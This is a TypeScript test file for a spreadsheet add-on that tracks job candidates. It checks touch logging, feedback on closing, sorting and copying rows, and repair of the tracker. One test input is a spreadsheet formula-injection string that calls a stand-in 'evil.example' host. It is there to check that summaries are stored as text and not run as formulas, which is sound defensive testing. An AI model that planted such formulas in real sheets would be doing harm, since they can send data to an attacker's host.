import { LOG_HEADERS } from '../../../src/domain/texts/sheet-words';
import { AddOnInWorkbook } from '../../support/add-on-in-workbook';
import { builtFile } from '../../support/build-folder';

/** Where the touch log says what was said. */
const SUMMARY = LOG_HEADERS.indexOf('Summary');

const SHEET = [
  ['Candidate', 'Email', 'Stage', 'Recruiter', 'Last contact'],
  ['Ana Ruiz', 'ana@mail.example', 'Interview', 'Rita', '2026-11-10'],
  ['Ben Okoro', 'ben@mail.example', 'Phone screen', 'Sam', '2026-11-16'],
  ['Cem Yilmaz', 'cem@mail.example', 'Interview', 'Sam', '2026-11-12'],
];

interface CardAnswer {
  readonly kind: string;
  readonly key: string;
  readonly card: { readonly candidateId: string; readonly name: string; readonly lastWord: string | null };
}
interface ReportAnswer {
  readonly tracker: { readonly candidates: number; readonly columns: Record<string, string | null> };
  readonly owed: readonly { readonly candidate: string; readonly rule: string; readonly dueOn: string }[];
}

let setUpOnce: AddOnInWorkbook | null = null;
/** A tracker of a test's own; set up once, for that takes seconds. */
function tracked(): AddOnInWorkbook {
  if (setUpOnce === null) {
    setUpOnce = AddOnInWorkbook.over(SHEET, '2026-11-18T10:00:00Z');
    setUpOnce.setUp();
  }
  return setUpOnce.copy();
}
const report = (addOn: AddOnInWorkbook) => addOn.run('getReport') as ReportAnswer;
const idOf = (addOn: AddOnInWorkbook, row: number) =>
  (addOn.shown()[row]?.[addOn.column('Candidate id')] ?? '').split('.')[0] ?? '';
const touch = (candidateId: string, key: string, more: object = {}) => ({
  candidateId,
  what: 'spoke',
  on: '2026-11-18',
  summary: '',
  scheduling: false,
  needsAnswer: false,
  promise: null,
  keeps: [],
  key,
  ...more,
});

describe('a tracker in daily use', () => {
  it('logs one touch for one form, however often it is sent', () => {
    const addOn = tracked();
    const ana = idOf(addOn, 1);
    const before = addOn.shown('Touch log').length;
    const first = addOn.run('logTouch', touch(ana, 'form 1')) as CardAnswer;
    const again = addOn.run('logTouch', touch(ana, 'form 1')) as CardAnswer;
    expect(first).toMatchObject({ kind: 'card', says: 'Logged: spoke with Ana Ruiz.' });
    expect(again.card).toEqual(first.card);
    expect(addOn.shown('Touch log')).toHaveLength(before + 1);
    expect(addOn.shown()[1]?.[addOn.column('Follow-up')]).toMatch(/^✓ On track/);
  });

  it.each([
    ['a formula', '=IMPORTXML("http://evil.example","//a")'],
    ['a phone number', '+44 7700 900123'],
    ['a negative number', '-1'],
    ['a mention', '@rita'],
    ['an apostrophe', "'quoted"],
    ['leading zeros', '0042'],
    ['a date', '3/4/2026'],
    ['a truth', 'TRUE'],
    ['lines and tabs', 'two\nlines\tand a tab'],
    ['right-to-left and emoji', 'שלום 👋'],
    ['49,000 letters', 'x'.repeat(49_000)],
  ])('gives back letter for letter what was typed: %s', (_what, summary) => {
    const addOn = tracked();
    addOn.run('logTouch', touch(idOf(addOn, 1), 'form', { summary }));
    const log = addOn.sheet('Touch log');
    const last = addOn.workbook.lastRow(log);
    const [[cell] = []] = addOn.workbook.read(log, { top: last, bottom: last, left: SUMMARY, right: SUMMARY });
    expect(cell).toMatchObject({ kind: 'text', value: summary, formula: null });
    const card = addOn.run('getCard', idOf(addOn, 1)) as { card: { touches: { summary: string }[] } };
    expect(card.card.touches[0]?.summary).toBe(summary);
  });

  it('opens the loop when a stage is typed, and closes it from the sidebar with feedback', () => {
    const addOn = tracked();
    addOn.type(1, addOn.column('Stage'), 'Rejected');
    expect(addOn.shown()[1]?.[addOn.column('Follow-up')]).toContain('Closed, not told');
    const closed = addOn.run('closeLoop', {
      candidateId: idOf(addOn, 1),
      on: '2026-11-18',
      what: 'spoke',
      decision: 'rejected',
      feedback: { requirement: 'SQL', seen: 'basics', nextStep: 'window functions' },
      reason: 'skills',
      situation: 'after an interview',
      ticks: { requirement: false, seen: false, nextStep: true },
      summary: '',
      key: 'closing',
    });
    expect(closed).toMatchObject({ kind: 'card', card: { canClose: false } });
    expect(addOn.shown()[1]?.[addOn.column('Follow-up')]).toMatch(/^✓ Closed, told/);
    expect(addOn.shown()[1]?.[addOn.column('Stage')]).toBe('Rejected');
    const logged = addOn
      .shown('Touch log')
      .find((row) => row.includes('feedback'))
      ?.join(' ');
    expect(logged).toContain('"closingReason":"skills","situation":"after an interview"');
    expect(logged).toContain('"ticks":{"requirement":false,"seen":false,"nextStep":true}');
  });

  it('takes a day typed into Last word from us for a touch', () => {
    const addOn = tracked();
    addOn.type(1, addOn.column('Last word from us'), '2026-11-17');
    expect(addOn.shown()[1]?.[addOn.column('Follow-up')]).toMatch(/^✓ On track · Last word from us on Tue 17 Nov/);
    expect(addOn.shown('Touch log').at(-1)?.slice(0, 4)).toEqual(['2026-11-17', '', 'Ana Ruiz', 'touch']);
  });

  it('takes in rows that are pasted at the bottom, each with an id of its own', () => {
    const addOn = tracked();
    const sheet = addOn.sheet();
    const rows = ['Dora', 'Eve', 'Fay'].map((name) => [`${name} Nagy`, `${name}@mail.example`, 'Interview', 'Sam', '']);
    addOn.workbook.write(
      sheet,
      4,
      0,
      rows.map((row) => row.map((value) => ({ kind: 'text', value }))),
    );
    addOn.edited({ top: 4, left: 0, bottom: 6, right: 4 });
    expect(report(addOn).tracker.candidates).toBe(6);
    const ids = [1, 2, 3, 4, 5, 6].map((row) => idOf(addOn, row));
    expect(new Set(ids).size).toBe(6);
    expect(addOn.shown()[5]?.[addOn.column('Follow-up')]).not.toBe('');
  });
});

describe('the menu', () => {
  it('is there before the add-on is enabled in a document, when nothing else is allowed', () => {
    const addOn = AddOnInWorkbook.over(SHEET, '2026-11-18T10:00:00Z');
    addOn.run('onOpen');
    const [menu] = addOn.events;
    expect(menu).toMatchObject({ kind: 'menu' });
    const handlers =
      menu?.kind === 'menu' ? menu.items.flatMap((item) => ('handler' in item ? [item.handler] : [])) : [];
    expect(handlers).toContain('setUpTracker');
    expect(handlers.filter((name) => !new RegExp(`\\bfunction ${name}\\(`).test(builtFile('Code.js')))).toEqual([]);
  });
});

describe('a tracker that people work on', () => {
  it('knows its columns when they are renamed and others are inserted before them', () => {
    const addOn = tracked();
    const sheet = addOn.sheet();
    addOn.workbook.insertColumns(sheet, 0, 2);
    addOn.workbook.write(sheet, 0, 4, [[{ kind: 'text', value: 'Where they are' }]]);
    const { tracker, owed } = report(addOn);
    expect(tracker.columns).toMatchObject({ name: 'Candidate', stage: 'Where they are', lastTouch: 'Last contact' });
    expect(owed.map(({ candidate }) => candidate)).toContain('Ana Ruiz');
  });

  it('keeps everybody’s touches when the whole table is sorted', () => {
    const addOn = tracked();
    const ben = idOf(addOn, 2);
    addOn.run('logTouch', touch(ben, 'form', { summary: 'about Berlin' }));
    const width = addOn.shown()[0]?.length ?? 0;
    addOn.workbook.sort(addOn.sheet(), { top: 1, left: 0, bottom: 3, right: width - 1 }, [
      { column: 0, ascending: false },
    ]);
    const card = addOn.run('getCard', ben) as CardAnswer;
    expect(card.card).toMatchObject({ name: 'Ben Okoro', lastWord: '2026-11-18' });
    expect(addOn.shown()[1]?.[addOn.column('Follow-up')]).toContain('Thu 12 Nov');
  });

  it('credits nobody with another’s touch when only the columns of the user are sorted', () => {
    const addOn = tracked();
    const ben = idOf(addOn, 2);
    addOn.run('logTouch', touch(ben, 'form'));
    addOn.workbook.sort(addOn.sheet(), { top: 1, left: 0, bottom: 3, right: 4 }, [{ column: 0, ascending: false }]);
    addOn.edited({ top: 1, left: 0, bottom: 3, right: 4 });
    const rows = addOn.shown().slice(1);
    const words = addOn.column('Last word from us');
    expect(rows.map((row) => [row[0], row[words]])).toEqual([
      ['Cem Yilmaz', 'Thu 12 Nov 2026'],
      ['Ben Okoro', 'Wed 18 Nov 2026'],
      ['Ana Ruiz', 'Tue 10 Nov 2026'],
    ]);
    expect((addOn.run('getCard', ben) as CardAnswer).card.name).toBe('Ben Okoro');
  });

  it('makes a copied row a candidate of its own', () => {
    const addOn = tracked();
    const sheet = addOn.sheet();
    const right = (addOn.shown()[0]?.length ?? 1) - 1;
    addOn.workbook.copy(
      sheet,
      { top: 1, left: 0, bottom: 1, right },
      sheet,
      { top: 4, left: 0, bottom: 4, right },
      'all',
    );
    addOn.edited({ top: 4, left: 0, bottom: 4, right });
    expect(idOf(addOn, 4)).not.toBe(idOf(addOn, 1));
    addOn.run('logTouch', touch(idOf(addOn, 4), 'form', { what: 'no answer' }));
    expect(report(addOn).tracker.candidates).toBe(4);
  });

  it('is mended by Repair when a column of ours was deleted and a formula typed over', () => {
    const addOn = tracked();
    const sheet = addOn.sheet();
    const before = addOn.shown();
    addOn.workbook.write(sheet, 2, addOn.column('Follow-up'), [[{ kind: 'text', value: 'later' }]]);
    addOn.workbook.deleteColumns(sheet, addOn.column('State'), 1);
    addOn.run('repairTracker');
    expect(addOn.shown()).toEqual(before);
  });

  it('has any number of tracker tabs over one log and one set of settings', () => {
    const addOn = tracked();
    const second = addOn.workbook.createSheet('Designers', 1, 50, 10);
    const rows = [SHEET[0] ?? [], ['Fay Lind', 'fay@mail.example', 'Interview', 'Sam', '2026-11-09']];
    addOn.workbook.write(
      second,
      0,
      0,
      rows.map((row) => row.map((value) => ({ kind: 'text', value }))),
    );
    const tabs = () => addOn.workbook.sheets().map((key) => addOn.workbook.sheetName(key));
    const before = tabs();
    expect(before).toContain('Touch log');
    expect(addOn.setUp('Designers')).toMatchObject({ kind: 'set up', candidates: 1 });
    expect(tabs()).toEqual(before);
    expect(
      report(addOn)
        .owed.map(({ candidate }) => candidate)
        .sort(),
    ).toEqual(['Ana Ruiz', 'Cem Yilmaz', 'Fay Lind']);
  });
});
